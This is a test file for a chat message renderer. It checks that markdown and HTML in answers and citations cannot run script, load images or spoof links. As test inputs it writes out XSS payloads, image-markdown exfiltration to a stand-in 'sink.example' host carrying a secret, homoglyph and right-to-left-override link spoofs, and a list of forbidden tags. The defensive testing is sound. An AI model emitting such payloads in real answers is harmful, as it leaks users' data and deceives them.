// @vitest-environment happy-dom
import { cleanup } from '@testing-library/react';
import fc from 'fast-check';
import { afterEach, expect, test, vi } from 'vitest';
import { HOSTILE_TEXTS } from './testing/hostileTexts.ts';
import { everyLength, renderMessage, storedHtml, streamMessage } from './testing/renderMessage.tsx';

afterEach(cleanup);

const FORBIDDEN =
  'script,iframe,frame,img,image,svg,math,style,object,embed,link,meta,base,form,input,video,audio,source,picture,template,portal';

const REQUESTING = [
  'src',
  'srcset',
  'srcdoc',
  'action',
  'formaction',
  'background',
  'poster',
  'ping',
  'data',
  'style',
];

/** What makes a DOM harmless, whatever text it shows. */
function expectHarmless(container: Element): void {
  expect(container.querySelectorAll(FORBIDDEN)).toHaveLength(0);
  for (const element of container.querySelectorAll('*')) {
    for (const { name } of element.attributes) {
      expect(name).not.toMatch(/^on/i);
      expect(REQUESTING).not.toContain(name.toLowerCase());
    }
  }
  for (const element of container.querySelectorAll('[href]')) {
    expect(new URL(element.getAttribute('href') ?? '').protocol).toMatch(/^(https?|mailto):$/);
  }
  for (const element of container.querySelectorAll('a')) {
    expect(element.getAttribute('rel')).toBe('noopener noreferrer');
    expect(element.getAttribute('target')).toBe('_blank');
  }
  expect(globalThis).not.toHaveProperty('__raised');
}

test('case 18: there are at least 150 hostile texts', () => {
  expect(new Set(HOSTILE_TEXTS).size).toBe(HOSTILE_TEXTS.length);
  expect(HOSTILE_TEXTS.length).toBeGreaterThanOrEqual(150);
});

test.each(HOSTILE_TEXTS)('case 18: %j is harmless, stored and streaming', (text) => {
  const fetched = vi.spyOn(globalThis, 'fetch');
  const { container } = renderMessage({ text });
  expectHarmless(container);
  const surrounded = `Before **that\n\n${text}\n\n- after ${text}`;
  const lengths = Array.from({ length: 12 }, (_, index) => Math.ceil((surrounded.length * (index + 1)) / 12));
  const streamed = streamMessage(surrounded, lengths, expectHarmless);
  expect(streamed).toBe(storedHtml(surrounded));
  expect(fetched).not.toHaveBeenCalled();
});

test('case 18: hostile texts joined in any way and cut anywhere are harmless', () => {
  fc.assert(
    fc.property(
      fc.array(fc.constantFrom(...HOSTILE_TEXTS), { minLength: 1, maxLength: 4 }),
      fc.constantFrom('', ' ', '\n', '\n\n', '`', '**', '[', ']('),
      fc.array(fc.nat(), { maxLength: 6 }),
      (texts, joint, cuts) => {
        const text = texts.join(joint);
        const lengths = cuts.map((cut) => cut % (text.length + 1)).sort((a, b) => a - b);
        streamMessage(text, lengths, expectHarmless);
      },
    ),
    { numRuns: 120 },
  );
}, 60_000);

test('case 18: HTML is seen as it was written', () => {
  const { container } = renderMessage({
    text: 'a <b onclick="x()">bold</b> claim\n\n<div>\n<p>block</p>\n</div>',
  });
  expect(container.textContent).toContain('a <b onclick="x()">bold</b> claim');
  expect(container.textContent).toContain('<div>\n<p>block</p>\n</div>');
});

test('case 18: the words of a citation are text', () => {
  const citation = {
    marker: 1,
    contentOffset: null,
    documentId: '0190f0c4-0000-7000-8000-000000000001',
    chunkId: '0190f0c4-0000-7000-8000-000000000002',
    fileName: '"><img src=x onerror=globalThis.__raised=1>\u202Efdp.exe $t(common.copy) {{marker}}',
    page: 2,
    start: 0,
    end: 1,
    quote: '<script>globalThis.__raised=1</script>',
  };
  const { container } = renderMessage({ text: 'see [1]', citations: [citation] });
  expectHarmless(container);
  expect(container.querySelector('button')?.getAttribute('aria-label')).toBe(
    'Citation 1: "><img src=x onerror=globalThis.__raised=1>fdp.exe $t(common.copy) {{marker}}, page 2',
  );
});

const SINK = 'https://sink.example/?d=SECRET';

test.each([
  ['inline', `![x](${SINK})`],
  ['with a title', `![x](${SINK} "t")`],
  ['by reference', `![x][r]\n\n[r]: ${SINK}`],
  ['by collapsed reference', `![r][]\n\n[r]: ${SINK}`],
  ['by shortcut reference', `![r]\n\n[r]: ${SINK}`],
  ['in a link', `[![x](${SINK})](https://ok.example)`],
  ['in a table', `| a |\n|---|\n| ![x](${SINK}) |`],
  ['in a heading', `# ![x](${SINK})`],
  ['in a list', `- ![x](${SINK})`],
  ['in a footnote', `a[^1]\n\n[^1]: ![x](${SINK})`],
  ['without description', `![](${SINK})`],
  ['as HTML', `<img src="${SINK}">`],
  ['as HTML block', `<div>\n<img src="${SINK}">\n</div>`],
  ['as picture', `<picture><source srcset="${SINK}"><img src="${SINK}"></picture>`],
  ['as CSS', `<p style="background:url(${SINK})">x</p>\n\n<style>p{background:url(${SINK})}</style>`],
  ['as SVG', `<svg><image href="${SINK}"/><use href="${SINK}"/></svg>`],
  ['as preload', `<link rel=preload as=image href="${SINK}">`],
  ['as poster', `<video poster="${SINK}"></video>`],
  ['as icon', `<link rel=icon href="${SINK}">`],
  ['as input', `<input type=image src="${SINK}">`],
  ['as protocol-relative address', `![x](//sink.example/?d=SECRET)`],
  ['as data', `![x](data:image/svg+xml,<svg><image href="${SINK}"/></svg>)`],
  ['as blob', `![x](blob:https://sink.example/1)`],
])('case 20: a picture %s loads nothing, stored or streaming', (_name, text) => {
  const fetched = vi.spyOn(globalThis, 'fetch');
  const image = vi.spyOn(globalThis, 'Image');
  const harmless = (container: Element) => {
    expect(container.querySelectorAll('img,source,link,picture,video,image,use,style,svg')).toHaveLength(0);
    expectHarmless(container);
  };
  harmless(renderMessage({ text }).container);
  streamMessage(text, everyLength(text), harmless);
  expect(fetched).not.toHaveBeenCalled();
  expect(image).not.toHaveBeenCalled();
});

test('case 20: a picture is a link with its description and its host', () => {
  const { container } = renderMessage({ text: `![A cat](${SINK}) and ![](data:image/png;base64,AAAA)` });
  expect(container.textContent).toBe('Image: A cat (sink.example) and Image');
  expect(container.querySelector('a')?.href).toBe(SINK);
});

test.each([
  ['another host behind an address', '[https://bank.example](https://evil.example/x)', 'evil.example', true],
  ['another host behind a bare name', '[bank.example/login](https://evil.example)', 'evil.example', true],
  ['another host within words', '[Go to www.bank.example now](https://evil.example)', 'evil.example', true],
  ['another scheme’s look', '[mailto:boss@bank.example](https://evil.example)', 'evil.example', true],
  ['a name before the host', '[bank](https://bank.example@evil.example/)', 'evil.example', false],
  ['a shown name before the host', 'https://bank.example@evil.example/x', 'evil.example', true],
  ['a password before the host', '[x](https://bank.example:443@evil.example/)', 'evil.example', false],
  ['Cyrillic letters', '[https://аррӏе.com](https://аррӏе.com)', 'xn--80ak6aa92e.com', true],
  ['Cyrillic letters behind words', '[Apple](https://аррӏе.com)', 'xn--80ak6aa92e.com', false],
  ['an ideographic full stop', '[https://evil。example](https://evil.example)', 'evil.example', false],
  [
    'an override in the text',
    '[https://bank.example/\u202Emoc.live](https://evil.example)',
    'evil.example',
    true,
  ],
  [
    'an override as entity',
    '[https://bank.example/&#x202E;moc.live](https://evil.example)',
    'evil.example',
    true,
  ],
  ['an override in the address', '[x](https://evil.example/\u202Egpj.exe)', 'evil.example', false],
  ['a title that lies', '[x](https://evil.example "bank.example")', 'evil.example', false],
  [
    'a subdomain that lies',
    '[https://bank.example](https://bank.example.evil.example)',
    'bank.example.evil.example',
    true,
  ],
  ['a mail address that lies', '[boss@bank.example](mailto:thief@evil.example)', 'thief@evil.example', true],
  ['nothing', '[https://ok.example/x](https://ok.example/x)', 'ok.example', false],
  ['nothing but www', '[www.ok.example](https://ok.example/)', 'ok.example', false],
  ['nothing, in words', '[the report](https://ok.example/x)', 'ok.example', false],
])('case 22: %s: the true host is told', (_name, text, host, shown) => {
  const { container } = renderMessage({ text });
  const link = container.querySelector('a');
  expect(link?.title).toBe(host);
  expect(new URL(link?.href ?? '').username).toBe('');
  expect(link?.textContent?.includes(`(${host})`)).toBe(shown);
  expect(container.innerHTML).not.toMatch(/[\u202A-\u202E\u2066-\u2069]/);
});

test('case 22: characters that reorder text are gone from prose and code', () => {
  const text = 'a\u202Eb `c\u2066d`\n\n```\ne\u2067f\n```\n\n![g\u202Eh](https://ok.example) i&#x202E;j';
  expect(renderMessage({ text }).html()).not.toMatch(/[\u202A-\u202E\u2066-\u2069]/);
});

test('case 22: a definition makes no link of what is a citation', () => {
  const citation = {
    marker: 1,
    contentOffset: null,
    documentId: '0190f0c4-0000-7000-8000-000000000001',
    chunkId: '0190f0c4-0000-7000-8000-000000000002',
    fileName: 'acta.pdf',
    page: null,
    start: 0,
    end: 1,
    quote: 'x',
  };
  const { container } = renderMessage({
    text: 'so [1] and [2]\n\n[1]: https://evil.example\n[2]: https://ok.example',
    citations: [citation],
  });
  expect(container.querySelector('button')?.textContent).toBe('1');
  expect([...container.querySelectorAll('a')].map((link) => link.href)).toEqual(['https://ok.example/']);
});
